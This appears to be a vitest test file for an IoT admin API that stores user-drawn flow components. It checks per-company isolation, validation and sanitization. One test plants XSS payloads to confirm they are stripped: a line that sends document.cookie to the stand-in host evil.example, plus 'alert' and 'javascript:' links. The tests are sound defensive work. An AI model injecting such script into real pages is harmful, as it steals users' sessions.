import { FLOW_COMPONENT_BODY_MAX, ResultCode } from '@iot/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from '../../test/databases.js';
import { createTestApp, type FixtureUser, type TestApp } from '../../test/harness.js';

const URL = '/admin/api/configflow/userComponent';

/** A pump of two pens: a body bound to a variable and its label, with a link event. */
const PUMP = [
  {
    id: 'body',
    name: 'rectangle',
    x: 100,
    y: 80,
    width: 120,
    height: 60,
    background: '#e6f4ff',
    data: { data: [{ msgType: '1', deviceId: 7, varId: 70, variableName: 'speed' }] },
    events: [{ type: 0, name: 'click', action: 0, value: 'https://example.com/pump' }],
  },
  { id: 'label', name: 'text', x: 100, y: 150, width: 120, height: 30, text: 'Pump 1' },
];

describe.each(DIALECTS)('user components on %s', (dialect) => {
  let t: TestApp;
  const call = async (
    user: FixtureUser | null,
    method: 'GET' | 'POST' | 'PUT' | 'DELETE',
    url: string,
    payload?: Record<string, unknown>,
    language = 'en-US',
  ) => {
    const token = user ? await t.tokenFor(user) : undefined;
    const headers = { 'accept-language': language };
    return (await t.call({ method, url, token, headers, ...(payload === undefined ? {} : { payload }) })).body;
  };

  beforeAll(async () => {
    t = await createTestApp(dialect);
  });
  afterAll(() => t.close());

  it('saves a selection, lists it for its company only, renames and deletes it', async () => {
    const saved = await call('dealerAdmin', 'POST', URL, { name: ' Pump ', pens: PUMP });
    expect(saved.code).toBe(200);
    expect(saved.data).toMatchObject({ name: 'Pump', image: '' });
    expect(saved.data.pens.map((p: { id: string }) => p.id)).toEqual(['body', 'label']);
    // Bindings and safe events are kept: the component is inserted as it was saved.
    expect(saved.data.pens[0].data.data[0]).toMatchObject({ deviceId: 7, varId: 70 });
    expect(saved.data.pens[0].events).toHaveLength(1);
    const { id } = saved.data as { id: number };

    expect((await call('dealerAdmin', 'GET', URL)).data).toEqual([saved.data]);
    expect((await call('otherAdmin', 'GET', URL)).data).toEqual([]);

    expect((await call('dealerAdmin', 'PUT', URL, { id, name: 'Pump A' })).code).toBe(200);
    expect((await call('dealerAdmin', 'GET', URL)).data[0].name).toBe('Pump A');

    // Another company's id answers as missing, and changes nothing.
    const other = await call('otherAdmin', 'PUT', URL, { id, name: 'Mine' });
    expect(other).toMatchObject({ code: 404, msg: 'component not found' });
    expect((await call('otherAdmin', 'DELETE', `${URL}/${id}`)).code).toBe(404);
    expect((await call('dealerAdmin', 'GET', URL)).data[0].name).toBe('Pump A');

    expect((await call('dealerAdmin', 'DELETE', `${URL}/${id}`)).code).toBe(200);
    expect((await call('dealerAdmin', 'GET', URL)).data).toEqual([]);
    expect((await call('dealerAdmin', 'DELETE', `${URL}/${id}`)).code).toBe(404);
  });

  it('strips code from a malicious component: initJs, JS and global-function actions, script links', async () => {
    const evil = {
      ...PUMP[0],
      initJs: 'fetch("https://evil.example/" + document.cookie)',
      fnJs: 'alert(1)',
      events: [
        { type: 0, name: 'click', action: 5, value: 'alert(document.cookie)' },
        { type: 0, name: 'click', action: 6, value: 'steal' },
        { type: 0, name: 'click', action: 0, value: 'javascript:alert(1)' },
      ],
    };
    const saved = await call('dealerAdmin', 'POST', URL, { name: 'Evil', pens: [evil], initJs: 'alert(2)' });
    expect(saved.code).toBe(200);
    const text = JSON.stringify((await call('dealerAdmin', 'GET', URL)).data);
    expect(text).not.toMatch(/initJs|fnJs|alert|javascript|cookie/);
    expect(saved.data.pens[0].events.map((e: { action: number }) => e.action)).toEqual([0]);
    await call('dealerAdmin', 'DELETE', `${URL}/${saved.data.id as number}`);
  });

  it('reads a stored row through the sanitizer again', async () => {
    const row = {
      companyId: t.fixture.companies.dealer,
      name: 'Old',
      content: JSON.stringify([{ ...PUMP[1], initJs: 'alert(3)', events: [{ action: 5, value: 'alert(4)' }] }]),
      createdAt: 1,
      updatedAt: 1,
    };
    const { id } = await t.testDb.db.kysely
      .insertInto('flowComponents')
      .values(row)
      .returning('id')
      .executeTakeFirstOrThrow();
    const listed = (await call('dealerAdmin', 'GET', URL)).data as { id: number; pens: unknown[] }[];
    const old = listed.find((c) => c.id === id)!;
    expect(JSON.stringify(old.pens)).not.toMatch(/alert|initJs/);
    expect(old.pens).toHaveLength(1);
    await call('dealerAdmin', 'DELETE', `${URL}/${id}`);
  });

  it('answers 400 naming the field, in the caller language', async () => {
    const zh = await call('dealerAdmin', 'POST', URL, { name: '  ', pens: PUMP }, 'zh-CN');
    expect(zh).toMatchObject({ code: 400, msg: 'name：请输入名称' });
    const cases: [Record<string, unknown>, string][] = [
      [{ pens: PUMP }, 'name'],
      [{ name: 'x'.repeat(65), pens: PUMP }, 'name'],
      [{ name: 'A', pens: [] }, 'pens'],
      [{ name: 'A' }, 'pens'],
      [{ name: 'A', pens: [{ ...PUMP[0], rotate: 999 }] }, 'pens.0.rotate'],
      [{ name: 'A', pens: PUMP, image: 'javascript:alert(1)' }, 'image'],
    ];
    for (const [body, field] of cases) {
      const answer = await call('dealerAdmin', 'POST', URL, body);
      expect(answer.code, field).toBe(400);
      expect(answer.msg.startsWith(`${field}: `), `${field}: ${answer.msg}`).toBe(true);
    }
    const rename = await call('dealerAdmin', 'PUT', URL, { id: 1, name: '' }, 'zh-CN');
    expect(rename).toMatchObject({ code: 400, msg: 'name：请输入名称' });
    expect((await call('dealerAdmin', 'GET', URL)).data).toEqual([]);
  });

  it('refuses a body over the limit before reading it, and checks the editor pages and the session', async () => {
    const big = { name: 'Big', pens: [{ ...PUMP[1], text: 'x'.repeat(FLOW_COMPONENT_BODY_MAX) }] };
    const res = await t.call({ method: 'POST', url: URL, token: await t.tokenFor('dealerAdmin'), payload: big });
    expect(res.res.statusCode).toBe(413);
    expect((await call('viewer', 'GET', URL)).code).toBe(403);
    expect((await call('viewer', 'POST', URL, { name: 'A', pens: PUMP })).code).toBe(403);
    expect((await call(null, 'GET', URL)).code).toBe(ResultCode.sessionEnded);
  });
});
